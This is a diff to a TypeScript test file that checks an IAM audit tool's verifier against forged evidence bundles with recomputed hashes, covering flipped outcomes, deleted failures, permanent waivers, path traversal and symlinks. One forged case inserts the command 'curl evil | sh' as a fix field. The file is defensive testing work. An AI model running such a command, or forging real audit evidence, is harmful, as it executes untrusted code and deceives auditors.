@@ -7,13 +7,23 @@ import {
   readlinkSync,
   rmSync,
   statSync,
+  symlinkSync,
   writeFileSync,
 } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { publishLatest, writeBundle } from '../evidence/bundle';
-import { ACCOUNT, AS_OF, accessKey, ago, csv, password, rootRow, userRow } from '../report/testing';
-import { auditAccount, ROOT_DIR, sumUp, uncheckable } from '.';
+import { publishLatest, writeBundle } from '../../evidence/bundle';
+import {
+  ACCOUNT,
+  AS_OF,
+  accessKey,
+  ago,
+  csv,
+  password,
+  rootRow,
+  userRow,
+} from '../../report/testing';
+import { auditAccount, ROOT_DIR, sumUp, uncheckable } from '..';
 import { verifyBundle } from './verify-bundle';
 
 const DAY = 86_400_000;
@@ -219,7 +229,7 @@ describe('verify', () => {
     edit(directory, 'verdicts.ndjson', (text) => text.split('\n').slice(1).join('\n'));
     cover(directory, 'verdicts.ndjson');
     expect(verify(directory).problems.join('\n')).toMatch(
-      /1 verdicts are missing, such as baseline › /,
+      /access-key-last-used: 1 verdicts are missing, such as alice/,
     );
   });
 
@@ -260,11 +270,190 @@ describe('verify', () => {
   });
 });
 
+/** Changes manifest and verdicts as somebody would who makes all hashes right again. */
+function forge(
+  directory: string,
+  change: (manifest: Forged, verdicts: Record<string, unknown>[]) => void,
+): string {
+  const path = (name: string) => join(directory, name);
+  const manifest: Forged = JSON.parse(readFileSync(path('manifest.json'), 'utf8'));
+  const lines = readFileSync(path('verdicts.ndjson'), 'utf8').trim().split('\n');
+  const verdicts = lines.map((line): Record<string, unknown> => JSON.parse(line));
+  change(manifest, verdicts);
+  const kept = verdicts.filter(({ deleted }) => !deleted);
+  const text = kept.map((verdict) => `${JSON.stringify(verdict)}\n`).join('');
+  writeFileSync(path('verdicts.ndjson'), text);
+  for (const name of Object.keys(manifest.files)) {
+    if (!existsSync(path(name))) continue;
+    const content = readFileSync(path(name));
+    const sha256 = createHash('sha256').update(content).digest('hex');
+    manifest.files[name] = { sha256, bytes: content.length };
+  }
+  writeFileSync(path('manifest.json'), JSON.stringify(manifest));
+  return directory;
+}
+
+interface Forged {
+  exitCode: number;
+  counts: Record<string, number>;
+  account: { id: string } | null;
+  report: object | null;
+  problems: string[];
+  profiles: { name: string; title: string }[];
+  controls: { id: string; profile: string | null; notRun: number; inputs: object }[];
+  waivers: object[];
+  files: Record<string, { sha256: string; bytes: number }>;
+}
+
+describe('an unsigned bundle with all hashes made right again', () => {
+  const pass = (verdict: Record<string, unknown>) => {
+    if (verdict.status === 'failed') verdict.status = 'passed';
+  };
+
+  test.each<[string, Parameters<typeof forge>[1], RegExp]>([
+    [
+      'an outcome that its verdicts do not give',
+      (manifest) => {
+        manifest.exitCode = 0;
+        manifest.counts.failed = 0;
+      },
+      /manifest\.json: exitCode is 0, but the verdicts give 1/,
+    ],
+    [
+      'no report, but passes',
+      (manifest, verdicts) => {
+        Object.assign(manifest, { report: null, account: null, exitCode: 0 });
+        verdicts.forEach(pass);
+      },
+      /it is passed, though no report could be read/,
+    ],
+    [
+      'verdicts made results of plain files',
+      (_, verdicts) => {
+        for (const verdict of verdicts) Object.assign(verdict, { profile: null, status: 'passed' });
+      },
+      /verdicts are missing/,
+    ],
+    [
+      'a control left out',
+      (manifest, verdicts) => {
+        const [first] = manifest.controls.splice(0, 1);
+        for (const verdict of verdicts) verdict.deleted = verdict.control === first?.id;
+      },
+      /Profile baseline selects control access-key-last-used here; the run had none/,
+    ],
+    [
+      'a limit loosened, and its verdicts with it',
+      (manifest, verdicts) => {
+        const control = manifest.controls.find(({ id }) => id === 'access-key-rotation');
+        Object.assign(control ?? {}, { inputs: { maxAgeDays: 9999 } });
+        verdicts.filter(({ control: id }) => id === 'access-key-rotation').forEach(pass);
+      },
+      /its inputs were \{"maxAgeDays":9999\} in the run, and are \{"maxAgeDays":90\} here/,
+    ],
+    [
+      'the name of another standard',
+      (manifest, verdicts) => {
+        Object.assign(manifest.profiles[0] ?? {}, { name: 'cis-aws-5.0' });
+        for (const each of [...manifest.controls, ...verdicts]) {
+          Object.assign(each, { profile: 'cis-aws-5.0' });
+        }
+      },
+      /Profile cis-aws-5\.0 selects control/,
+    ],
+    [
+      'failures deleted as left out by a filter',
+      (manifest, verdicts) => {
+        const failed = verdicts.filter(({ status }) => status === 'failed');
+        for (const verdict of failed) verdict.deleted = true;
+        Object.assign(manifest.controls[0] ?? {}, { notRun: failed.length });
+      },
+      /verdicts are missing, such as/,
+    ],
+    [
+      'a waiver that lasts for ever',
+      (manifest) => {
+        const people = { owner: 'o', approvedBy: 'a', ticket: null, use: 'used' };
+        const expires = '2099-01-01T00:00:00.000Z';
+        manifest.waivers.push({
+          control: 'user-mfa',
+          subject: '*',
+          reason: 'r',
+          expires,
+          ...people,
+        });
+      },
+      /The waiver of \* \(user-mfa\) lasts longer than 366 days/,
+    ],
+    [
+      'files unnamed',
+      (manifest) => {
+        for (const name of ['index.html', 'junit.xml']) delete manifest.files[name];
+      },
+      /The manifest does not name junit\.xml/,
+    ],
+    [
+      'another fix',
+      (_, verdicts) => {
+        for (const verdict of verdicts) if (verdict.fix) verdict.fix = 'curl evil | sh';
+      },
+      /fix is "curl evil \| sh" in the bundle/,
+    ],
+    [
+      'another account',
+      (manifest) => Object.assign(manifest.account ?? {}, { id: '999999999999' }),
+      /999999999999/,
+    ],
+  ])('is found out that has %s', async (_, change, expected) => {
+    const { problems } = verify(forge(await bundle(), change));
+    expect(problems.join('\n')).toMatch(expected);
+  });
+
+  test.each(['junit.xml', 'index.html', 'verdicts.csv', 'findings.asff.json', 'summary.md'])(
+    'is found out that has another %s',
+    async (name) => {
+      const directory = await bundle();
+      writeFileSync(join(directory, name), 'all is well');
+      expect(verify(forge(directory, () => {})).problems).toEqual([
+        `${name} is not what the verdicts give.`,
+      ]);
+    },
+  );
+
+  test.each<[string, Parameters<typeof forge>[1]]>([
+    [
+      'a file outside of it',
+      (manifest) => Object.assign(manifest.files, { '../x': manifest.files['report.csv'] }),
+    ],
+    [
+      'fewer than no verdicts left out',
+      (manifest) => Object.assign(manifest.controls[0] ?? {}, { notRun: -5 }),
+    ],
+  ])('is not understood that names %s', async (_, change) => {
+    const directory = forge(await bundle(), change);
+    expect(() => verify(directory)).toThrow(/is not understood/);
+  });
+
+  test('a link in it is no file', async () => {
+    const directory = await bundle();
+    rmSync(join(directory, 'summary.md'));
+    symlinkSync(join(directory, 'verdicts.csv'), join(directory, 'summary.md'));
+    expect(verify(directory).problems).toContain('summary.md is no file of its own.');
+  });
+});
+
+test('a house profile that is unknown here is named as such', async () => {
+  const profile = join(ROOT_DIR, 'support', 'jest', 'examples', 'house.ts');
+  const { problems, notes } = verify(await bundle(undefined, { IAMSPEC_PROFILE: profile }));
+  expect(notes.join(' ')).toMatch(/Profile house is not one of this checkout/);
+  expect(problems).toEqual([]);
+});
+
 describe('a signed bundle', () => {
   test('passes with its key', async () => {
     const { problems, notes } = verify(await bundle(OWN), SHARED);
     expect(problems).toEqual([]);
-    expect(notes).toContain('The signature of the manifest was checked.');
+    expect(notes).toContain('The manifest is signed by that key.');
   });
 
   test('fails where the manifest was covered up', async () => {
@@ -272,6 +461,7 @@ describe('a signed bundle', () => {
     edit(directory, 'manifest.json', (text) => text.replace('"exitCode": 1', '"exitCode": 0'));
     expect(verify(directory, SHARED).problems).toEqual([
       'the signature is not that of this manifest and this key.',
+      'manifest.json: exitCode is 0, but the verdicts give 1.',
     ]);
   });
 
